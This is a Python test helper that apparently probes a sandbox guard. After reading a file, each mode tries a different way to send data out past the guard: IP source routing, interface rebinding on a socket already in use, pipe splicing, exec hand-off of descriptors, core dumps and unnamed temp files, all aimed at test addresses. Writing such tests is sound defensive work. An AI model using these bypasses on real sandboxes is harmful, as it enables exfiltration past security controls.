#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ways around the guard, one a run: evade.py MODE FILE TEXT [ADDRESS]. FILE is read first ("-": none). Exit 101: refused."""
import ctypes
import errno
import os
import socket
import struct
import sys

mode, path, text = sys.argv[1:4]
away = sys.argv[4] if len(sys.argv) > 4 else "10.9.0.2"
data = text.encode()
libc = ctypes.CDLL(None, use_errno=True)


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def unspec():
    """An IPv4 socket takes a name without a family for IPv4."""
    name = struct.pack("=H", 0) + struct.pack("!H", 9000) + socket.inet_aton(away) + bytes(8)
    with udp() as sock:
        check(libc.sendto(sock.fileno(), data, len(data), 0, name, len(name)))


def unspec6():
    """An IPv6 socket takes it for no name at all."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.connect(("fd09::2", 9000))
        name = bytes(28)
        check(libc.sendto(sock.fileno(), data, len(data), 0, name, len(name)))


def port0():
    with udp() as sock:
        sock.connect((away, 0))
        sock.send(data)


# Loose source routing: the packet goes to the first hop.
ROUTE = bytes([131, 7, 4]) + socket.inet_aton(away) + bytes(1)


def route():
    with udp() as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, ROUTE)
        sock.sendto(data, ("127.0.0.1", 9000))


def route_message():
    with udp() as sock:
        sock.sendmsg([data], [(socket.IPPROTO_IP, socket.IP_RETOPTS, ROUTE)], 0, ("127.0.0.1", 9000))


def interface():
    with udp() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"inside")
        sock.sendto(data, ("127.0.0.1", 9000))


def interface_message():
    info = struct.pack("=i8x", socket.if_nametoindex("inside"))
    with udp() as sock:
        sock.sendmsg([data], [(socket.IPPROTO_IP, 8, info)], 0, ("127.0.0.1", 9000))


def later(change, kind=socket.AF_INET, home="127.0.0.1", send=None):
    """To this host is free; then the same socket is changed, and sends to the same name again."""
    def one(what):
        try:
            send(sock, what) if send else sock.sendto(what, (home, 9000))
        except ConnectionRefusedError:  # what the send before brought about
            one(what)

    with socket.socket(kind, socket.SOCK_DGRAM) as sock:
        if send:
            sock.bind(("10.9.0.1", 0))  # from 127.0.0.1 nothing gets out
            sock.connect((home, 9000))
        one(b"first")
        one(b"first")
        print("first", flush=True)
        change(sock)
        one(data)


def bind_interface(sock):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"inside")


def interface_later():
    later(bind_interface)


def interface_later_write():
    later(bind_interface, send=lambda sock, what: os.write(sock.fileno(), what))


def interface_later_send():
    later(bind_interface, send=lambda sock, what: sock.send(what))


def unicast_later():
    """IP_UNICAST_IF"""
    later(lambda sock: sock.setsockopt(socket.IPPROTO_IP, 50,
                                       struct.pack("!I", socket.if_nametoindex("inside"))))


def unicast6_later():
    """IPV6_UNICAST_IF"""
    later(lambda sock: sock.setsockopt(socket.IPPROTO_IPV6, 76,
                                       struct.pack("!I", socket.if_nametoindex("inside"))),
          socket.AF_INET6, "::1")


def route_later():
    later(lambda sock: sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, ROUTE))


def reconnect_later():
    later(lambda sock: sock.connect((away, 9000)), send=lambda sock, what: sock.send(what))


def reconnect_later_write():
    later(lambda sock: sock.connect((away, 9000)),
          send=lambda sock, what: os.write(sock.fileno(), what))


def until_refused():
    """The same again and again, to one place."""
    import time
    with udp() as sock:
        while True:
            sock.sendto(data, (away, 9000))
            time.sleep(0.1)


def second_file():
    """Sends, reads the file $SECOND too, sends the same."""
    with udp() as sock:
        sock.sendto(b"first", (away, 9000))
        sock.sendto(b"first", (away, 9000))
        print("first", flush=True)
        with open(os.environ["SECOND"], "rb") as more:
            more.read()
        sock.sendto(data, (away, 9000))


def read_again():
    """Reads the file $AGAIN, twice, and once more after $CHANGE; then writes into $OUT."""
    with open(os.environ["AGAIN"], "rb") as again, open(os.environ["OUT"], "wb", 0) as out:
        for _ in range(3):
            os.pread(again.fileno(), 9, 0)
        if os.fork() == 0:
            os.execl("/bin/sh", "sh", "-c", os.environ["CHANGE"])
        os.wait()
        os.pread(again.fileno(), 9, 0)
        out.write(data)


def loopback():
    """The neighbour: nothing is steered."""
    with udp() as sock:
        sock.sendmsg([data], [(socket.IPPROTO_IP, 8, bytes(12))], 0, ("127.0.0.1", 9000))


def tcp():
    with socket.create_connection((away, 9000)) as sock:
        sock.sendall(data)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def vmsplice():
    """Reads the pipe on standard input."""
    page = ctypes.create_string_buffer(4096)
    check(libc.vmsplice(0, ctypes.byref(Vector(ctypes.addressof(page), 4096)), 1, 0))
    tcp()


def tee():
    source, sink = os.pipe()
    check(libc.tee(0, sink, 4096, 0))
    os.read(source, 4096)
    tcp()


def splice():
    source, sink = os.pipe()
    os.splice(0, sink, 4096)
    os.read(source, 4096)
    tcp()


def splice_out():
    """From the pipe into a socket that was connected before."""
    with socket.create_connection((away, 9000)) as sock:
        os.splice(0, sock.fileno(), 4096)


def vmsplice_in():
    """Into the pipe on standard output, which the next one reads."""
    page = ctypes.create_string_buffer(data, 64)
    check(libc.vmsplice(1, ctypes.byref(Vector(ctypes.addressof(page), len(data))), 1, 0))


def become():
    """Who was trusted when it opened the file hands it on by exec: the program of $NEXT reads it."""
    descriptor = os.open(os.environ["SOURCE"], os.O_RDONLY)
    os.dup2(descriptor, 0)
    os.execv(os.environ["NEXT"], [os.environ["NEXT"], "-c", "import os, socket\nos.read(0, 100)\n"
                                  f"socket.create_connection(('{away}', 9000)).sendall(b'{text}')"])


def core():
    import resource
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.chdir(os.environ["FOLDER"])
    os.abort()


def nameless():
    """A file without a name is written, then named: FOLDER/named."""
    descriptor = os.open(os.environ["FOLDER"], os.O_TMPFILE | os.O_RDWR, 0o666)
    os.write(descriptor, data)
    check(libc.linkat(-100, f"/proc/self/fd/{descriptor}".encode(), -100,
                      os.path.join(os.environ["FOLDER"], "named").encode(), 0x400))


if path != "-":
    with open(path, "rb") as source:
        source.read()
try:
    globals()[mode]()
except OSError as error:
    print(error, file=sys.stderr)
    sys.exit(101 if error.errno in (errno.EPERM, errno.ENOTCONN) else 1)
